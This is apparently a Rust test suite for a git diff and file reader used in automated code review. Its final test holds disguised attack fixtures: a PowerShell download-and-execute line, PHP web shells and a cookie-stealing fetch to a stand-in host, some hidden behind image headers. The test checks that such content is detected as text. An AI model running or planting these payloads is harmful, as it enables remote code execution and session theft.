//! `SourceReader::diff`: patch text and the windows it gives the ledger.

use vouch_core::snapshot::FileStatus;
use vouch_core::source::{Revision, SourceLedger, SourceWindow};
use vouch_git::ReadError;
use vouch_git::reader::{MAX_BYTES, MAX_LINES};

use crate::support::sources;

fn w(revision: Revision, path: &str, start_line: u32, end_line: u32) -> SourceWindow {
    SourceWindow {
        revision,
        path: path.into(),
        start_line,
        end_line,
    }
}

#[test]
fn a_modified_file_shows_its_hunks_and_both_sides_windows() {
    let (_repo, snap, reader) = sources();
    let diff = reader.diff("src/lib.rs").unwrap();
    assert_eq!(&diff.file, snap.file("src/lib.rs").unwrap());
    assert!(!diff.truncated);
    assert_eq!(
        diff.text,
        "diff --git a/src/lib.rs b/src/lib.rs\n\
         --- a/src/lib.rs\n\
         +++ b/src/lib.rs\n\
         @@ -1,7 +1,7 @@\n \
         //! A small library.\n \n \
         pub fn f1() -> u32 {\n\
         -    1\n\
         +    100\n \
         }\n \
         pub fn f2() -> u32 {\n     2\n\
         @@ -18,3 +18,6 @@ pub fn f5() -> u32 {\n \
         pub fn f6() -> u32 {\n     6\n }\n\
         +pub fn f7() -> u32 {\n\
         +    7\n\
         +}\n"
    );
    // The windows are exactly the hunk ranges of the snapshot, on each side.
    assert_eq!(
        diff.windows,
        [
            w(Revision::Head, "src/lib.rs", 1, 7),
            w(Revision::Base, "src/lib.rs", 1, 7),
            w(Revision::Head, "src/lib.rs", 18, 23),
            w(Revision::Base, "src/lib.rs", 18, 20),
        ]
    );
    // What the host records from a diff lets a verifier cite the changed lines.
    let mut ledger = SourceLedger::default();
    diff.windows.iter().cloned().for_each(|x| ledger.record(x));
    assert!(
        ledger
            .check(&w(Revision::Head, "src/lib.rs", 21, 23))
            .is_ok()
    );
    assert!(ledger.check(&w(Revision::Base, "src/lib.rs", 4, 4)).is_ok());
    assert!(
        ledger
            .check(&w(Revision::Head, "src/lib.rs", 8, 17))
            .is_err()
    );
}

#[test]
fn a_rename_shows_base_lines_under_the_previous_path() {
    let (_repo, _, reader) = sources();
    let diff = reader.diff("docs/manual.md").unwrap();
    assert_eq!(diff.file.status, FileStatus::Renamed);
    assert!(
        diff.text.starts_with(
            "diff --git a/docs/guide.md b/docs/manual.md\nsimilarity index 90%\nrename from docs/guide.md\nrename to docs/manual.md\n--- a/docs/guide.md\n+++ b/docs/manual.md\n@@ -6,5 +6,5 @@"
        ),
        "{}",
        diff.text
    );
    assert_eq!(
        diff.windows,
        [
            w(Revision::Head, "docs/manual.md", 6, 10),
            w(Revision::Base, "docs/guide.md", 6, 10)
        ]
    );
}

#[test]
fn added_and_deleted_files_have_one_side() {
    let (_repo, _, reader) = sources();
    let deleted = reader.diff("old.txt").unwrap();
    assert_eq!(deleted.windows, [w(Revision::Base, "old.txt", 1, 2)]);
    assert!(deleted.text.contains("deleted file mode 100644\n--- a/old.txt\n+++ /dev/null\n@@ -1,2 +0,0 @@\n-to be deleted\n-second line\n"), "{}", deleted.text);
    let added = reader.diff("src/new.rs").unwrap();
    assert_eq!(added.windows, [w(Revision::Head, "src/new.rs", 1, 1)]);
    assert!(
        added
            .text
            .contains("new file mode 100644\n--- /dev/null\n+++ b/src/new.rs\n"),
        "{}",
        added.text
    );
}

#[test]
fn metadata_only_changes_show_no_content_and_no_windows() {
    let (_repo, _, reader) = sources();
    let mode = reader.diff("run.sh").unwrap();
    assert_eq!(
        mode.text,
        "diff --git a/run.sh b/run.sh\nold mode 100644\nnew mode 100755\n"
    );
    assert!(mode.windows.is_empty());
}

#[test]
fn unicode_paths_are_not_quoted_in_the_patch() {
    let (_repo, _, reader) = sources();
    let diff = reader.diff("dir with space/ünï.txt").unwrap();
    assert!(
        diff.text
            .starts_with("diff --git a/dir with space/ünï.txt b/dir with space/ünï.txt\n"),
        "{}",
        diff.text
    );
    assert!(!diff.text.contains("\\303"));
}

#[test]
fn a_large_patch_is_cut_and_its_windows_cover_only_what_was_shown() {
    let (_repo, snap, reader) = sources();
    let diff = reader.diff("big.txt").unwrap();
    assert!(diff.truncated);
    assert!(diff.text.len() <= MAX_BYTES);
    assert!(diff.text.lines().count() <= MAX_LINES as usize + 5);
    assert!(
        diff.text.ends_with("using the hunk line numbers]\n"),
        "{}",
        &diff.text[diff.text.len() - 300..]
    );
    // One hunk: -198,606 +198,606. Shown: 3 context lines, then deletions only (git lists
    // the 600 removed lines before the added ones), so head shows just the context.
    let hunk = &snap.file("big.txt").unwrap().hunks[0];
    assert_eq!((hunk.old_start, hunk.new_start), (198, 198));
    let head = diff
        .windows
        .iter()
        .find(|x| x.revision == Revision::Head)
        .unwrap();
    let base = diff
        .windows
        .iter()
        .find(|x| x.revision == Revision::Base)
        .unwrap();
    assert_eq!((head.start_line, head.end_line), (198, 200));
    assert_eq!(base.start_line, 198);
    assert!(base.end_line < 198 + 600, "{base:?}");
    let last_shown = diff.text.lines().rev().nth(1).unwrap();
    assert_eq!(last_shown, format!("-line {}", base.end_line));
}

#[test]
fn binary_and_unchanged_paths() {
    let (repo, _, _) = sources();
    repo.write("bin.dat", b"\0\x01\x02binary, changed\0");
    repo.commit("binary change");
    let snap = vouch_git::snapshot(repo.path(), Some("HEAD~1"), "HEAD").unwrap();
    let reader = vouch_git::SourceReader::open(repo.path(), &snap).unwrap();
    let diff = reader.diff("bin.dat").unwrap();
    assert!(diff.file.binary);
    assert!(diff.windows.is_empty());
    // A binary change is shown as its metadata: each side's size, blob id and type.
    let blob = |rev: &str| repo.git(&["rev-parse", &format!("{rev}:bin.dat")]);
    assert_eq!(
        diff.text,
        format!(
            "diff --git a/bin.dat b/bin.dat\nBinary files differ; content not shown\n\
             binary base: 10 bytes, blob {}, type application/octet-stream\n\
             binary head: 19 bytes, blob {}, type application/octet-stream\n",
            blob("HEAD~1").trim(),
            blob("HEAD").trim()
        )
    );
    let err = reader.diff("src/lib.rs").unwrap_err();
    assert!(matches!(err, ReadError::NotChanged { .. }), "{err:?}");
    assert!(
        err.to_string()
            .starts_with("`src/lib.rs` is not a changed file of this change"),
        "{err}"
    );
}

#[test]
fn a_missing_final_newline_is_marked() {
    let (repo, _, _) = sources();
    repo.write("tail.txt", "a\nb");
    repo.commit("no newline");
    repo.write("tail.txt", "a\nc");
    repo.commit("still none");
    let snap = vouch_git::snapshot(repo.path(), Some("HEAD~1"), "HEAD").unwrap();
    let reader = vouch_git::SourceReader::open(repo.path(), &snap).unwrap();
    let diff = reader.diff("tail.txt").unwrap();
    assert!(
        diff.text.ends_with("@@ -1,2 +1,2 @@\n a\n-b\n\\ No newline at end of file\n+c\n\\ No newline at end of file\n"),
        "{}",
        diff.text
    );
    assert_eq!(
        diff.windows,
        [
            w(Revision::Head, "tail.txt", 1, 2),
            w(Revision::Base, "tail.txt", 1, 2)
        ]
    );
}

/// Patch access is one computation per file: the rename pairing is the snapshot's, the
/// hunks are the snapshot's, and asking again (from the `diff` tool, an inline section or
/// another lane) returns the very same patch without computing it again.
#[test]
fn a_patch_is_computed_once_from_the_snapshot_pairing_and_shared() {
    let (_repo, snap, reader) = sources();
    assert_eq!(
        reader.patches_computed(),
        0,
        "opening the reader computes no patch"
    );
    let first = reader.diff("docs/manual.md").unwrap();
    let again = reader.diff("./docs/manual.md").unwrap();
    assert!(
        std::sync::Arc::ptr_eq(&first, &again),
        "the second call shares the first patch"
    );
    assert_eq!(reader.patches_computed(), 1);
    let file = snap.file("docs/manual.md").unwrap();
    assert_eq!(
        &first.file, file,
        "the snapshot's own file, renamed from docs/guide.md"
    );
    let headers: Vec<&str> = first.text.lines().filter(|l| l.starts_with("@@")).collect();
    let expected: Vec<&str> = file.hunks.iter().map(|h| h.header.as_str()).collect();
    assert_eq!(
        headers, expected,
        "the patch shows exactly the snapshot's hunks"
    );
    // Every changed file of the snapshot has its patch, each computed once.
    for f in &snap.files {
        let d = reader.diff(&f.path).unwrap();
        assert_eq!(d.file, *f);
        if !f.binary {
            let shown = d.text.lines().filter(|l| l.starts_with("@@")).count();
            assert!(shown <= f.hunks.len(), "{}", f.path);
        }
    }
    assert_eq!(reader.patches_computed(), snap.files.len() as u64);
}

/// A reader given the patches its snapshot kept shows every file exactly as a reader
/// that computes them, and computes only those the snapshot did not keep (files modified
/// in place are kept; renames, additions, deletions and binary files are not).
#[test]
fn patches_the_snapshot_kept_are_shown_as_computed_and_not_computed_again() {
    let (repo, snap, fresh) = sources();
    let range =
        vouch_git::resolve_range(repo.path(), Some(&snap.base.spec), &snap.head.spec).unwrap();
    let (kept_snap, kept) = vouch_git::snapshot_range_with_patches(
        repo.path(),
        range,
        &std::sync::atomic::AtomicBool::new(false),
    )
    .unwrap();
    assert_eq!(kept_snap, snap);
    let reader = vouch_git::SourceReader::open(repo.path(), &snap)
        .unwrap()
        .with_patches(kept);
    let in_place = |f: &&vouch_core::snapshot::ChangedFile| {
        f.status == FileStatus::Modified && !f.binary && f.old_mode == f.new_mode
    };
    assert!(snap.files.iter().filter(in_place).count() >= 2);
    for f in &snap.files {
        assert_eq!(
            reader.diff(&f.path).unwrap(),
            fresh.diff(&f.path).unwrap(),
            "{}",
            f.path
        );
    }
    let not_kept = snap.files.iter().filter(|f| !in_place(f)).count();
    assert_eq!(reader.patches_computed(), not_kept as u64);
}

/// A change that only swaps bytes which are not UTF-8 (a Latin-1 `é` for `è`) is shown as
/// a change, in the patch and in reads of both sides: each such byte as `\xNN`, never as
/// U+FFFD on both sides. A long line's byte window shows it the same way.
#[test]
fn bytes_that_are_not_utf8_are_shown_as_escapes_so_a_swap_is_seen() {
    let (repo, _, _) = sources();
    let long = |b: u8| {
        let mut line = vec![b'x'; 20_000];
        line[10_000] = b;
        line.push(b'\n');
        line
    };
    repo.write("latin1.txt", b"caf\xE9 au lait\n");
    repo.write("long.txt", long(0xE9));
    repo.write("dense.txt", [vec![0xE9u8; 40_000], b"\n".to_vec()].concat());
    repo.commit("latin-1 base");
    repo.write("latin1.txt", b"caf\xE8 au lait\n");
    repo.write("long.txt", long(0xE8));
    repo.write("dense.txt", [vec![0xE8u8; 40_000], b"\n".to_vec()].concat());
    repo.commit("latin-1 head");
    let snap = vouch_git::snapshot(repo.path(), Some("HEAD~1"), "HEAD").unwrap();
    let reader = vouch_git::SourceReader::open(repo.path(), &snap).unwrap();
    let diff = reader.diff("latin1.txt").unwrap();
    assert!(
        diff.text
            .ends_with("@@ -1 +1 @@\n-caf\\xE9 au lait\n+caf\\xE8 au lait\n"),
        "{}",
        diff.text
    );
    for (revision, shown) in [(Revision::Base, "caf\\xE9"), (Revision::Head, "caf\\xE8")] {
        let read = reader
            .read_file(revision, "latin1.txt", None, None)
            .unwrap();
        assert!(
            read.text.contains(&format!("1: {shown} au lait\n")),
            "{}",
            read.text
        );
        let window = reader
            .read_line_window(revision, "long.txt", 1, 9_990, 40)
            .unwrap();
        // 40 bytes shown: 10 + the escape (4) + 26.
        let byte = &shown[3..];
        let x = |n| "x".repeat(n);
        assert!(
            window.text.contains(&format!(
                "line 1 bytes 9990-10027 of 20000\n1: {}{byte}{}\n",
                x(10),
                x(26)
            )),
            "{}",
            window.text
        );
    }
    // A line of nothing but such bytes: a read shows at most its bound, as escapes.
    let read = reader
        .read_file(Revision::Head, "dense.txt", None, None)
        .unwrap();
    assert!(
        read.truncated && read.text.len() <= MAX_BYTES,
        "{}",
        read.text.len()
    );
    let window = reader
        .read_line_bytes(Revision::Head, "dense.txt", 1, 0)
        .unwrap();
    let body = window.text.lines().nth(1).unwrap();
    assert!(
        body.len() <= vouch_git::reader::MAX_LINE_WINDOW_BYTES + 3,
        "{}",
        body.len()
    );
    assert_eq!(body.len(), 3 + 4 * window.spans[0].end_byte as usize);
}

/// A change of line ending alone (CRLF to LF, the final newline) is a change the model
/// must see: every read of a changed line shows the two sides differently.
#[test]
fn a_change_of_line_ending_alone_reads_differently_at_base_and_head() {
    let (repo, _, _) = sources();
    let long = "z".repeat(20_000);
    repo.write("eol.txt", "one\r\ntwo\r\n");
    repo.write("final.txt", "x\ny");
    repo.write("long-eol.txt", format!("{long}\r\n"));
    repo.write("long-final.txt", &long);
    repo.commit("CRLF base");
    repo.write("eol.txt", "one\ntwo\r\n");
    repo.write("final.txt", "x\ny\n");
    repo.write("long-eol.txt", format!("{long}\n"));
    repo.write("long-final.txt", format!("{long}\n"));
    repo.commit("LF head");
    let snap = vouch_git::snapshot(repo.path(), Some("HEAD~1"), "HEAD").unwrap();
    let reader = vouch_git::SourceReader::open(repo.path(), &snap).unwrap();
    let cr = "\u{240D}";

    let diff = reader.diff("eol.txt").unwrap();
    assert!(
        diff.text
            .ends_with(&format!("@@ -1,2 +1,2 @@\n-one{cr}\n+one\n two{cr}\n")),
        "{}",
        diff.text
    );
    for (revision, first) in [
        (Revision::Base, format!("one{cr}")),
        (Revision::Head, "one".into()),
    ] {
        let read = reader.read_file(revision, "eol.txt", None, None).unwrap();
        assert!(
            read.text.ends_with(&format!("1: {first}\n2: two{cr}\n")),
            "{}",
            read.text
        );
        let grep = reader.grep("^one", Some("eol.txt"), revision).unwrap();
        assert!(
            grep.text.contains(&format!("eol.txt:1:{first}\n")),
            "{}",
            grep.text
        );
    }

    let diff = reader.diff("final.txt").unwrap();
    assert!(
        diff.text.contains("-y\n\\ No newline at end of file\n+y\n"),
        "{}",
        diff.text
    );
    let base = reader
        .read_file(Revision::Base, "final.txt", None, None)
        .unwrap();
    let head = reader
        .read_file(Revision::Head, "final.txt", None, None)
        .unwrap();
    assert!(
        base.text.ends_with("2: y\n\\ No newline at end of file\n"),
        "{}",
        base.text
    );
    assert!(head.text.ends_with("2: y\n"), "{}", head.text);

    // A long line: the window that reaches its end shows the ending; one before does not.
    let unterminated = "\\ No newline at end of file\n";
    for (revision, end) in [(Revision::Base, unterminated), (Revision::Head, "")] {
        let read = reader
            .read_line_window(revision, "long-final.txt", 1, 19_990, 40)
            .unwrap();
        let want = format!("1: {}\n{end}", "z".repeat(10));
        assert!(read.text.ends_with(&want), "{}", read.text);
    }
    for (revision, mark) in [(Revision::Base, cr), (Revision::Head, "")] {
        let end = reader
            .read_line_window(revision, "long-eol.txt", 1, 19_990, 40)
            .unwrap();
        assert!(
            end.text
                .ends_with(&format!("1: {}{mark}\n", "z".repeat(10))),
            "{}",
            end.text
        );
        let middle = reader
            .read_line_range(revision, "long-eol.txt", 1, (100, 140), 40)
            .unwrap();
        assert!(
            middle.text.contains(&format!("1: {}\n", "z".repeat(40))),
            "{}",
            middle.text
        );
    }
}

/// One binary rule: a text file with control characters (a log with `\x01` field
/// separators) that the diff shows as text is read as text too, where libgit2's own
/// blob check called it binary and every read of it came back empty.
#[test]
fn a_file_the_diff_shows_as_text_is_read_as_text() {
    let (repo, _, _) = sources();
    let log = |price: &str| {
        (1..=40)
            .map(|i| {
                format!("8=FIX.4.2\x019=65\x0135=D\x0111=ORD{i}\x0144={price}\x0110=128\x01\n")
            })
            .collect::<String>()
    };
    repo.write("orders.log", log("100"));
    repo.commit("orders");
    repo.write("orders.log", log("101"));
    repo.commit("reprice");
    let snap = vouch_git::snapshot(repo.path(), Some("HEAD~1"), "HEAD").unwrap();
    let reader = vouch_git::SourceReader::open(repo.path(), &snap).unwrap();
    assert!(!snap.file("orders.log").unwrap().binary);
    for (revision, price) in [(Revision::Base, "100"), (Revision::Head, "101")] {
        let read = reader
            .read_file(revision, "orders.log", Some(3), Some(3))
            .unwrap();
        assert!(
            read.text.contains(&format!("\x0144={price}\x01")),
            "{}",
            read.text
        );
        let line = reader
            .read_line_window(revision, "orders.log", 3, 0, 400)
            .unwrap();
        assert!(line.text.contains("ORD3"), "{}", line.text);
        let grep = reader
            .grep("ORD3\x01", Some("orders.log"), revision)
            .unwrap();
        assert_eq!(grep.matches.len(), 1, "{}", grep.text);
    }
}

/// A backslash is part of a git file name: a file named `back\slash.txt` is diffed and
/// read like any other, and a model that writes `\` for `/` finds nothing and is told
/// how paths are separated.
#[test]
fn a_file_whose_name_holds_a_backslash_is_read_like_any_other() {
    let (repo, _, _) = sources();
    repo.write("docs/back\\slash.txt", "one\ntwo\n");
    repo.commit("add");
    repo.write("docs/back\\slash.txt", "one\nTWO\n");
    repo.commit("edit");
    let snap = vouch_git::snapshot(repo.path(), Some("HEAD~1"), "HEAD").unwrap();
    let reader = vouch_git::SourceReader::open(repo.path(), &snap).unwrap();
    let path = "docs/back\\slash.txt";
    assert!(snap.file(path).is_some(), "{:?}", snap.files);
    let diff = reader.diff(path).unwrap();
    assert!(diff.text.contains("+TWO"), "{}", diff.text);
    let read = reader.read_file(Revision::Head, path, None, None).unwrap();
    assert!(read.text.contains("2: TWO"), "{}", read.text);
    let err = reader
        .read_file(Revision::Head, "docs\\back\\slash.txt", None, None)
        .unwrap_err()
        .to_string();
    assert!(
        err.contains("does not exist") && err.contains("separated by `/`"),
        "{err}"
    );
}

/// A metadata-only review stands on binary content of a format its name says on every
/// side that exists: never a text side (a NUL byte, UTF-16 or UTF-32, text behind a
/// format's magic bytes), nor bytes of no known format or of another than the name's.
#[test]
fn a_binary_file_is_binary_content_only_when_no_side_is_text() {
    let png = |seed: u8| {
        let mut b = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR".to_vec();
        b.push(seed);
        b
    };
    // A UTF-16LE script, with and without its byte-order mark.
    let utf16 = |bom: bool, text: &str| {
        let mut b: Vec<u8> = if bom { vec![0xff, 0xfe] } else { vec![] };
        b.extend(text.encode_utf16().flat_map(u16::to_le_bytes));
        b
    };
    let script = "Invoke-WebRequest http://example.invalid/x.ps1 | Invoke-Expression\r\n";
    // Bytes of no known format, with no run of text in them, then (at head) a script.
    let junk: Vec<u8> = (0..70_000u32)
        .map(|i| {
            if i % 7 == 0 {
                0
            } else {
                (i % 251) as u8 | 0x80
            }
        })
        .collect();
    let mut junk_then_php = junk.clone();
    junk_then_php.extend_from_slice(b"<?php system($_GET[\"c\"]); ?>");
    // A PNG whose text chunk holds a sentence: a known format's text is its metadata.
    let mut png_with_text = png(5);
    png_with_text.extend((0..2_000u32).map(|i| (i % 97) as u8 | 0x80));
    png_with_text.extend_from_slice(b"tEXtComment\0made with a tool that writes long comments");
    let (repo, _, _) = sources();
    repo.write("magic.php", png(8))
        .write("u32.ps1", [0u8, 0, 0xfe, 0xff, 0, 0, 0, b'x'])
        .write("setup.ps1", utf16(true, "Write-Host hi\r\n"))
        .write("nobom.ps1", utf16(false, "Write-Host hi\r\n"))
        .write("page.php", junk.clone())
        .write("noise.bin", junk.clone())
        .write("text-chunk.png", png(6))
        .write("logo.png", png(1))
        .write("nul.py", b"# \0\nx = 1\n")
        .write("blob.bin", [0u8, 1, 2, 0xfe, 0xff, 0x80, 0x90])
        .write("was-text.png", "plain text\n");
    repo.commit("binary files");
    let mut noise = junk;
    noise[1] ^= 0x01;
    let mut magic_php = png(7);
    magic_php.extend((0..5_000u32).map(|i| (i % 89) as u8 | 0x80));
    magic_php.extend_from_slice(b"<?=`$_GET[c]`?>");
    let mut u32be = vec![0, 0, 0xfe, 0xff];
    u32be.extend(script.chars().flat_map(|c| (c as u32).to_be_bytes()));
    repo.write("magic.php", magic_php)
        .write("u32.ps1", u32be)
        .write("setup.ps1", utf16(true, script))
        .write("nobom.ps1", utf16(false, script))
        .write("page.php", junk_then_php)
        .write("noise.bin", noise)
        .write("text-chunk.png", png_with_text)
        .write("logo.png", png(2))
        .write("nul.py", b"# \0\nx = 2\n")
        .write("blob.bin", [0u8, 3, 4, 0xfe, 0xff, 0x81, 0x91])
        .write("was-text.png", png(3))
        .write("added.png", png(4))
        .write(
            "web/app.js",
            b"GIF89a/*\0*/=0;\nfetch(\"https://example.invalid/\" + document.cookie);\n",
        );
    repo.commit("change them");
    let snap = vouch_git::snapshot(repo.path(), Some("HEAD~1"), "HEAD").unwrap();
    let reader = vouch_git::SourceReader::open(repo.path(), &snap).unwrap();
    // (path, what its sides are)
    use vouch_git::BinarySides::*;
    let cases = [
        ("logo.png", Binary),
        ("added.png", Binary),
        ("nul.py", Text),
        // Binary of no format its bytes show cannot be said from its metadata.
        ("blob.bin", Unrecognised),
        ("was-text.png", Text),
        // Code behind a GIF's magic bytes: a format named, but the content is text.
        ("web/app.js", Text),
        // UTF-16 text is text, with or without a byte-order mark.
        ("setup.ps1", Text),
        ("nobom.ps1", Text),
        // A script after 70,000 bytes of no known format, and the bytes alone.
        ("page.php", Unrecognised),
        ("noise.bin", Unrecognised),
        // A known format's text chunk is metadata.
        ("text-chunk.png", Binary),
        // A PNG's header on a `.php`: not the format its name says.
        ("magic.php", Unrecognised),
        // UTF-32BE text with its byte-order mark.
        ("u32.ps1", Text),
    ];
    for (path, sides) in cases {
        assert_eq!(reader.binary_sides(path).unwrap(), sides, "{path}");
    }
    assert!(reader.binary_sides("not-changed.rs").is_err());
}
